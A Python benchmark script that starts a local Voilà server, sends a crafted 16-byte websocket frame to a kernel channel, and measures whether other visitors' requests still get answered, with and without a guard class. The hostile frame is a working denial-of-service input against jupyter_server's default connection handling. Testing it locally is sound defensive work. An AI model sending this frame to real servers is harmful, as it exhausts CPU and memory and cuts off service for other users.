"""One visitor's hostile websocket frame against the Voilà server: does everyone else still get answers?

Starts Voilà as `make dashboard` does (voila.json), opens a page over HTTP, sends the 16-byte v1
frame starting `ff ff ff 0f` on that page's kernel websocket, then for --seconds asks the server
for a static file every 0.2 s. Prints JSON: the slowest and median answer, requests that got no
answer within 2 s, and the server process's RSS growth. `--unguarded` swaps in jupyter_server's
own connection class (what the server did before digitlib/voila_guard.py) for comparison; that
run pins a core and grows memory until it ends, so keep --seconds short.

    .venv/bin/python benchmarks/voila_attack.py [--unguarded] [--seconds 10]
"""

from __future__ import annotations

import argparse
import json
import os
import re
import statistics
import sys
import time
from pathlib import Path

import psutil
import requests
import websocket

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from dashboard_server import running_voila  # noqa: E402

from digitlib import config  # noqa: E402
from digitlib.voila_guard import V1  # noqa: E402

HOSTILE = bytes.fromhex("ffffff0f") + bytes(12)
JUPYTER_SERVER_CLASS = "jupyter_server.services.kernels.connection.channels.ZMQChannelsWebsocketConnection"
UNGUARDED = f"--Voila.kernel_websocket_connection_class={JUPYTER_SERVER_CLASS}"


def page_kernel(url: str, timeout: float = 180) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        reply = requests.get(url, timeout=120)
        if reply.status_code == 200:
            return re.search(r'"kernelId": *"([^"]+)"', reply.text).group(1)
        time.sleep(float(reply.headers.get("Retry-After", 2)))
    raise TimeoutError("no dashboard page")


def attack(url: str, pid: int, seconds: float) -> dict:
    kernel_id = page_kernel(url)
    server = psutil.Process(pid)
    rss_before = server.memory_info().rss
    ws_url = url.replace("http://", "ws://") + f"api/kernels/{kernel_id}/channels?session_id=attacker"
    ws = websocket.create_connection(ws_url, subprotocols=[V1], timeout=10)
    ws.send_binary(HOSTILE)
    answers, unanswered = [], 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        started = time.monotonic()
        try:
            requests.get(f"{url}voila/static/materialcolors.css", timeout=2).raise_for_status()
            answers.append(time.monotonic() - started)
        except requests.RequestException:
            unanswered += 1
        time.sleep(0.2)
    rss_after = server.memory_info().rss
    ws.close()
    return {
        "requests": len(answers) + unanswered,
        "unanswered_within_2s": unanswered,
        "answer_ms_median": round(statistics.median(answers) * 1000, 1) if answers else None,
        "answer_ms_max": round(max(answers) * 1000, 1) if answers else None,
        "server_rss_growth_mib": round((rss_after - rss_before) / 2**20, 1),
    }


def main(argv=None) -> dict:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--unguarded", action="store_true", help="jupyter_server's own connection class")
    parser.add_argument("--seconds", type=float, default=10)
    args = parser.parse_args(argv)
    env = {**os.environ, config.POOL_SIZE.name: "1"}
    extra = [UNGUARDED] if args.unguarded else []
    with running_voila(env, extra_args=extra) as (port, process):
        result = {"guarded": not args.unguarded, **attack(f"http://127.0.0.1:{port}/", process.pid, args.seconds)}
    print(json.dumps(result))
    return result


if __name__ == "__main__":
    main()
